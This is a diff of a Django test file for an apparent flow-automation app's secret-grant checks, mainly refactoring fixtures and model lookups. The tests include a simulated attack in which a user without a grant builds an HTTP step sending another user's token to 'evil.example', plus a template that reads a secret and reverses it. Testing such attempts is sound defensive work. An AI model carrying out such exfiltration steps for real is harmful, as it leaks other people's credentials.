@@ -5,7 +5,6 @@ the vault."""
 import io
 
 import pytest
-from django.contrib.auth.models import Permission
 from django.core.exceptions import ValidationError
 from django.core.management import call_command
 from django.core.management.base import CommandError
@@ -14,7 +13,7 @@ from django.urls import reverse
 from flows_app.models import Flow, FlowRun
 from flows_app.services.runs import RunNotAllowed, flow_run_start
 from secrets_app.exceptions import SecretInUse
-from secrets_app.models import SecretBinding, SecretGrant
+from secrets_app.models import Secret, SecretBinding
 from secrets_app.services.grants import grant_give, grant_withdraw
 from secrets_app.services.secrets import secret_create, secret_delete
 from tests.flows_app.conftest import execute, make_flow
@@ -25,15 +24,9 @@ READ_TOKEN = "{{ secrets.get_password('tok-main')|reverse }}"
 
 
 @pytest.fixture
-def people(db, django_user_model):
+def people(staff_user):
     """alice owns the token; mallory edits and runs flows but holds no grant on it."""
-
-    def staff(name):
-        user = django_user_model.objects.create_user(name, password="pw", is_staff=True)
-        user.user_permissions.set(Permission.objects.filter(content_type__app_label__in=["secrets_app", "flows_app"]))
-        return user
-
-    alice, mallory = staff("alice"), staff("mallory")
+    alice, mallory = staff_user("alice"), staff_user("mallory")
     secret_create(name="tok-main", kind="api_token", data={"token": TOKEN}, acting_user=alice)
     return alice, mallory
 
@@ -88,7 +81,7 @@ class TestSavingNeedsAUseGrant:
     def test_an_http_step_with_someone_elses_secret_is_refused_in_the_admin(self, client, people):
         _, mallory = people
         client.force_login(mallory)
-        secret_id = SecretBinding._meta.get_field("secret").related_model.objects.get(name="tok-main").pk
+        secret_id = Secret.objects.get(name="tok-main").pk
         steps = [{"key": "send", "kind": "http_request", "url": "https://evil.example/", "secret": str(secret_id)}]
         errors = form_errors(client.post(ADD, flow_post("send-away", steps)))
         assert "secret: Step 'send': mallory holds no use grant for the secret 'tok-main'." in errors
@@ -102,7 +95,7 @@ class TestSavingNeedsAUseGrant:
 
     def test_a_grant_lets_the_editor_save_and_the_flow_runs_as_its_creator(self, people):
         alice, mallory = people
-        grant_give(secret=SecretBinding._meta.get_field("secret").related_model.objects.get(name="tok-main"), user=mallory, level="use", acting_user=alice)
+        grant_give(secret=Secret.objects.get(name="tok-main"), user=mallory, level="use", acting_user=alice)
         flow = make_flow("granted", [{"key": "t", "kind": "transform", "value": "{{ secrets.get_password('tok-main') }}"}], acting_user=mallory)
         assert flow.owner == mallory and bound(flow) == ["tok-main"]
 
@@ -122,7 +115,7 @@ class TestSavingNeedsAUseGrant:
 class TestRunningChecksTheOwnersGrants:
     def test_a_withdrawn_grant_fails_the_run_naming_the_secret_and_never_its_value(self, people):
         alice, mallory = people
-        secret = SecretBinding._meta.get_field("secret").related_model.objects.get(name="tok-main")
+        secret = Secret.objects.get(name="tok-main")
         grant = grant_give(secret=secret, user=mallory, level="use", acting_user=alice)
         flow = make_flow("mallorys", [{"key": "t", "kind": "transform", "value": READ_TOKEN}], acting_user=mallory)
         assert execute(flow).status == FlowRun.Status.SUCCEEDED
@@ -178,7 +171,7 @@ class TestRunningChecksTheOwnersGrants:
 
     def test_a_called_flow_runs_with_its_own_bindings_and_owner(self, people):
         alice, mallory = people
-        secret = SecretBinding._meta.get_field("secret").related_model.objects.get(name="tok-main")
+        secret = Secret.objects.get(name="tok-main")
         grant_give(secret=secret, user=mallory, level="use", acting_user=alice)
         make_flow("alices", [{"key": "t", "kind": "transform", "value": {"ok": "{{ secrets.get_password('tok-main') != '' }}"}}], acting_user=alice)
         caller = make_flow("caller", [{"key": "c", "kind": "call_flow", "flow": "alices"}], acting_user=mallory)
